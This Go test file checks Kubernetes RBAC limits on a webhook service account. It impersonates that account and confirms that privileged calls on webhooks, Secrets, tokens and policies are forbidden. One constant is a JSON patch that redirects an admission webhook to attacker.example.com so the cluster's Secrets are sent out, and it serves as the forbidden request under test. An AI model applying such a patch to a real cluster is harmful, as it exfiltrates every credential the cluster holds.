package callers

import (
	"io"
	"net/http"
	"strings"
	"testing"

	"k8s.io/client-go/rest"

	"sluice/test/harness/cluster"
)

// The content types of patches.
const (
	jsonPatch  = "application/json-patch+json"
	mergePatch = "application/merge-patch+json"
)

// request sends one to the API server with the rights of a service account. Most kubectl commands read
// the object before, which is another right.
func request(t *testing.T, user, method, path, contentType, body string) (status int, answer string) {
	t.Helper()
	config := shared.As(cluster.Admin)
	config.Impersonate = rest.ImpersonationConfig{UserName: user}
	caller, err := rest.HTTPClientFor(config)
	if err != nil {
		t.Fatal(err)
	}
	host := "https://" + strings.Trim(strings.TrimPrefix(config.Host, "https:"), "/")
	r, err := http.NewRequestWithContext(t.Context(), method, host+path, strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	r.Header.Set("Content-Type", contentType)
	response, err := caller.Do(r)
	if err != nil {
		t.Fatal(err)
	}
	defer response.Body.Close()
	text, err := io.ReadAll(response.Body)
	if err != nil {
		t.Fatal(err)
	}
	return response.StatusCode, string(text)
}

// secretsOfAll makes the API server send all Secrets of the cluster to another server.
const secretsOfAll = `[
	{"op":"replace","path":"/webhooks/0/rules","value":[{"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"],"operations":["CREATE","UPDATE"]}]},
	{"op":"remove","path":"/webhooks/0/matchConditions"},
	{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://attacker.example.com"}}]`

// TestTheServingAccountWritesNothing that decides about reviews. The other account can: nothing in
// Kubernetes restricts that right to a field, and the documentation says so.
func TestTheServingAccountWritesNothing(t *testing.T) {
	install(t)
	enforced(t)
	const (
		registrations = "/apis/admissionregistration.k8s.io/v1/"
		system        = "/api/v1/namespaces/sluice-system/"
		policies      = "/apis/sluice.dev/v1alpha1/flowexportpolicies/closed"
		network       = "/apis/operator.openshift.io/v1/networks/cluster"
		named         = "?fieldSelector=metadata.name%3D"
	)
	for _, c := range []struct{ method, path, contentType, body string }{
		{http.MethodPatch, registrations + "mutatingwebhookconfigurations/sluice", jsonPatch, secretsOfAll},
		{http.MethodPatch, registrations + "validatingwebhookconfigurations/sluice", jsonPatch, secretsOfAll},
		{http.MethodDelete, registrations + "validatingwebhookconfigurations/sluice", "", ""},
		{http.MethodPost, registrations + "validatingadmissionpolicies", "application/json", `{"metadata":{"name":"x"},"spec":{"validations":[{"expression":"false"}]}}`},
		{http.MethodDelete, registrations + "validatingadmissionpolicies", "", ""},
		{http.MethodGet, "/api/v1/secrets", "", ""},
		{http.MethodGet, system + "secrets", "", ""},
		{http.MethodPost, system + "secrets", "application/json", `{"metadata":{"name":"x"}}`},
		{http.MethodPatch, system + "secrets/sluice-webhook-ca", mergePatch, `{"data":{"tls.crt":""}}`},
		{http.MethodPatch, system + "secrets/sluice-webhook-path", mergePatch, `{"data":{"token":""}}`},
		{http.MethodDelete, system + "secrets/sluice-webhook-ca", "", ""},
		{http.MethodPost, system + "serviceaccounts/sluice-controller/token", "application/json", `{}`},
		{http.MethodPost, system + "pods", "application/json", `{"metadata":{"name":"x"},"spec":{"containers":[{"name":"x","image":"x"}]}}`},
		{http.MethodPatch, policies, mergePatch, `{"spec":{"enforcement":"Warn"}}`},
		{http.MethodPatch, policies + "/status", mergePatch, `{"status":{"observedGeneration":7}}`},
		{http.MethodDelete, policies, "", ""},
		{http.MethodGet, network, "", ""},
		{http.MethodPatch, network, mergePatch, `{"spec":{"exportNetworkFlows":null}}`},
		{http.MethodGet, "/api/v1/namespaces/openshift-network-operator/configmaps" + named + "ovs-flows-config", "", ""},
	} {
		if status, answer := request(t, cluster.WebhookUser, c.method, c.path, c.contentType, c.body); status != http.StatusForbidden {
			t.Errorf("%s %s: %d %.300s", c.method, c.path, status, answer)
		}
	}
	// The test would see a right: this one it has.
	if status, answer := request(t, cluster.WebhookUser, http.MethodGet, system+"secrets"+named+"sluice-webhook-path", "", ""); status != http.StatusOK {
		t.Errorf("%d %.300s", status, answer)
	}
	if status, answer := request(t, cluster.ControllerUser, http.MethodPatch, registrations+"mutatingwebhookconfigurations/sluice", jsonPatch, secretsOfAll); status != http.StatusOK {
		t.Errorf("the controller's right is smaller than documented: %d %.300s", status, answer)
	}
}
